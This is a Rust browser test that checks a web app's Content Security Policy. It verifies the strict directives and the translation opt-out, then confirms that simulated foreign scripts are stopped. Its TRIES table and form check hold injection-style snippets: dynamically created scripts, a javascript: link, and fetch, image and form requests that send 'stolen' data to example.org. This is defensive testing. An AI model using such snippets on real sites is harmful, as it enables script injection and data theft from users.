//! The page's policy: what is not the page's own runs nothing and asks for nothing.

use casebook_e2e::story::{begin_with_samples, pages};
use casebook_e2e::{Home, Profile, Screen, any_heading};
use serde_json::{Value, json};

/// Notes what the policy had to stop.
const WATCH: &str = "window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
        window.violations.push(violatedDirective + ' ' + blockedURI));";

#[tokio::test]
async fn policy() {
    for (build, home) in [("the site", Home::site()), ("the one file", Home::one_file())] {
        let profile = Profile::chromium("zh-CN");
        let screen = profile.open().await;
        screen.before_each_page(WATCH).await;
        screen.open(&home, "").await;
        begin_with_samples(&screen).await;
        is_strict(&screen, build).await;
        is_not_translated(&screen, build).await;
        for (name, address) in pages(&screen, &home).await {
            screen.open(&home, &address).await;
            screen.find(&any_heading().first()).await;
            // A page of the same document goes on with what was noted before.
            let stopped = screen.script("return window.violations", vec![]).await;
            assert_eq!(stopped, json!([]), "{build}: {name} does what its policy forbids");
        }
        foreign_script_is_stopped(&screen, build).await;
        screen.quit().await;
    }
}

/// Nothing inline but what its hash names, nothing from elsewhere.
async fn is_strict(screen: &Screen, build: &str) {
    let policy = screen.script("return document.querySelector('meta[http-equiv]').content", vec![]).await;
    let policy = policy.as_str().expect("the page has a policy").to_owned();
    let sources = |name: &str| -> Option<Vec<&str>> {
        let directive = policy.split(';').map(str::trim).find(|one| one.split(' ').next() == Some(name))?;
        Some(directive.split(' ').skip(1).collect())
    };
    assert_eq!(sources("default-src"), Some(vec!["'none'"]), "{policy}");
    assert_eq!(sources("base-uri"), Some(vec!["'none'"]), "{policy}");
    assert_eq!(sources("form-action"), Some(vec!["'none'"]), "{policy}");
    for forbidden in
        ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'strict-dynamic'", "http:", "https:", "*"]
    {
        assert!(!policy.split([' ', ';']).any(|part| part == forbidden), "{forbidden}: {policy}");
    }
    // The site fetches the parts of its own code; the one file has them in it.
    let own = (build == "the site").then(|| vec!["'self'"]);
    assert_eq!(sources("connect-src"), own, "{policy}");
    for directive in ["script-src", "style-src", "img-src"] {
        for source in sources(directive).unwrap_or_default() {
            let known = ["'self'", "'wasm-unsafe-eval'", "data:", "blob:"].contains(&source)
                || source.starts_with("'sha256-");
            assert!(known, "{directive} allows {source}");
        }
    }
    // Only the page's encoding stands before it, and every inline script is named by its hash.
    let unnamed = "
        const { content } = document.querySelector('meta[http-equiv]');
        const before = document.head.firstElementChild.nextElementSibling === document.querySelector('meta[http-equiv]');
        const wrong = before ? [] : ['something stands before the policy'];
        for (const script of document.querySelectorAll('script:not([src])')) {
            if (/^(application|text)\\/(?!javascript)/.test(script.type)) continue;
            const bytes = new TextEncoder().encode(script.textContent);
            const hash = btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))));
            if (!content.includes(`'sha256-${hash}'`)) wrong.push(script.textContent.slice(0, 80));
        }
        for (const element of document.querySelectorAll('[style]')) {
            if (!element.style.length) wrong.push(element.outerHTML.slice(0, 80));
        }
        return wrong;";
    assert_eq!(screen.script_async(unnamed, vec![]).await, json!([]), "{build}");
}

/// A browser that translates sends what it translates to somebody else, and changes the page under the app's hands.
async fn is_not_translated(screen: &Screen, build: &str) {
    let asked = "return [document.documentElement.translate,
        document.querySelector('meta[name=google]')?.content]";
    assert_eq!(screen.script(asked, vec![]).await, json!([false, "notranslate"]), "{build}");
}

/// What somebody smuggled in would try, and which rule stops it.
const TRIES: [(&str, &str); 9] = [
    (
        "script-src",
        "const made = document.createElement('script'); made.textContent = 'window.ran = 1'; document.body.append(made)",
    ),
    (
        "script-src",
        "const made = document.createElement('script'); made.src = 'https://example.org/x.js'; document.body.append(made)",
    ),
    (
        "script-src",
        "document.body.insertAdjacentHTML('beforeend', '<button id=tried onclick=\"window.ran = 1\"></button>'); document.getElementById('tried').click()",
    ),
    ("script-src", "setTimeout('window.ran = 1')"),
    (
        "script-src",
        "const made = document.createElement('a'); made.href = 'javascript:window.ran = 1'; document.body.append(made); made.click()",
    ),
    ("connect-src", "fetch('https://example.org/?stolen=1').catch(() => {})"),
    ("img-src", "new Image().src = 'https://example.org/stolen.png'"),
    (
        "frame-src",
        "const made = document.createElement('iframe'); made.src = 'https://example.org/'; document.body.append(made)",
    ),
    (
        "style-src",
        "const made = document.createElement('style'); made.textContent = 'body { color: red }'; document.head.append(made)",
    ),
];

async fn foreign_script_is_stopped(screen: &Screen, build: &str) {
    for (rule, script) in TRIES {
        screen.script("window.violations.length = 0", vec![]).await;
        // As a page's own script would do it: the driver's are above the policy.
        screen.script(&format!("setTimeout(() => {{ {script} }})"), vec![]).await;
        screen
            .until(&format!("{build}: {script}"), async || {
                let stopped = screen.script("return window.violations", vec![]).await;
                let stopped = stopped.as_array().cloned().unwrap_or_default();
                stopped.iter().filter_map(Value::as_str).any(|said| said.starts_with(rule))
            })
            .await;
        assert_eq!(
            screen.script("return window.ran ?? null", vec![]).await,
            Value::Null,
            "{build}: {script} ran"
        );
    }
    // A form has nowhere to go.
    let form = "document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"https://example.org/\"><input name=a></form>'); document.getElementById('f').submit()";
    let here = screen.here().await;
    screen.script(&format!("setTimeout(() => {{ {form} }})"), vec![]).await;
    screen
        .until("the form is stopped", async || {
            screen.script("return window.violations.join()", vec![]).await.to_string().contains("form-action")
        })
        .await;
    assert_eq!(screen.here().await, here);
}
